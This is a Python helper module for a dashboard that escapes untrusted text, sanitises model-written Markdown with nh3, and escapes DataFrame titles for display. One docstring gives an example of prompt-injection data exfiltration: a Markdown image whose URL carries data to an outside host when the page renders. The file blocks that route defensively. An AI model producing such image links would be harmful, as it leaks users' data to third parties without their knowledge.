"""Showing untrusted text on the dashboard: the one way pages put it into HTML.

Everything that comes from data, artifacts, notebooks, runs, records, chats or
a model is untrusted: a DataFrame's column name, a record's name, a run title,
a token the model streams. Pages never build HTML from such text by hand; they
call one of these:

- ``text(value)``: the value as escaped HTML (quotes too), safe inside an
  element and inside a quoted attribute;
- ``markdown(source)``: Markdown rendered with raw HTML off (markdown-it, the
  parser Panel itself uses) and the result cleaned by nh3 (the ammonia
  sanitizer): no script or style, no event attributes, no ``javascript:`` or
  ``data:`` URLs. Show the result in an HTML pane, never in Panel's Markdown
  pane, which passes raw HTML through;
- ``table(frame)``: a DataFrame ready for a Tabulator: Tabulator writes column
  titles (and so column and index names) as HTML, while cells go through its
  escaping ``plaintext`` formatter unless a page asks for ``html``.
"""

from __future__ import annotations

import functools
import html
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

__all__ = ["text", "markdown", "table"]

#: what model-written Markdown may produce; anything else is dropped with its content kept as text
_TAGS = frozenset({
    "a", "abbr", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img",
    "li", "ol", "p", "pre", "s", "strong", "sub", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
})
_ATTRIBUTES = {"a": {"href", "title"}, "img": {"src", "alt", "title"}, "th": {"align"}, "td": {"align"}}
_URL_SCHEMES = frozenset({"http", "https", "mailto"})


def text(value: Any) -> str:
    """``value`` as HTML that shows exactly its characters (``None`` as nothing)."""
    return "" if value is None else html.escape(str(value), quote=True)


def markdown(source: str | None) -> str:
    """Markdown as sanitized HTML: formatting, links and images, never script or raw HTML."""
    import nh3

    rendered = _parser().render(source or "")
    return nh3.clean(rendered, tags=set(_TAGS), attributes={k: set(v) for k, v in _ATTRIBUTES.items()},
                     url_schemes=set(_URL_SCHEMES), link_rel="noopener noreferrer nofollow", attribute_filter=_local_images)


def _local_images(element: str, attribute: str, value: str) -> str | None:
    """Images only from the dashboard itself: a model's ``![](https://elsewhere/?q=<data>)`` would send data out
    the moment the page shows it (a prompt injection's favourite exit); a link at least needs a click."""
    if element == "img" and attribute == "src" and ("//" in value or ":" in value.split("/", 1)[0]):
        return None
    return value


@functools.cache
def _parser() -> Any:
    from markdown_it import MarkdownIt

    # built once: its rule tables cost more than one render; "html": False turns raw HTML into text
    return MarkdownIt("commonmark", {"html": False}).enable("table").enable("strikethrough")


def table(frame: "pd.DataFrame") -> "pd.DataFrame":
    """A copy of ``frame`` whose column and index names are escaped (Tabulator shows them as HTML titles).

    Titles are made unique, index names included: Tabulator needs one field per column, and Panel adds the
    index as a column, which fails when a column has the index's name (data does that: ``df.set_index("id")``
    of a frame that kept an ``id`` column)."""
    shown = frame.copy(deep=False)
    taken: set[str] = set()
    shown.columns = [_unique(text(c), taken) for c in shown.columns]
    shown.index = shown.index.set_names([None if n is None else _unique(text(n), taken, " (index)") for n in shown.index.names])
    return shown


def _unique(title: str, taken: set[str], suffix: str = "") -> str:
    candidate, number = title if not suffix or title not in taken else title + suffix, 2
    while candidate in taken:
        candidate, number = f"{title}{suffix} ({number})", number + 1
    taken.add(candidate)
    return candidate
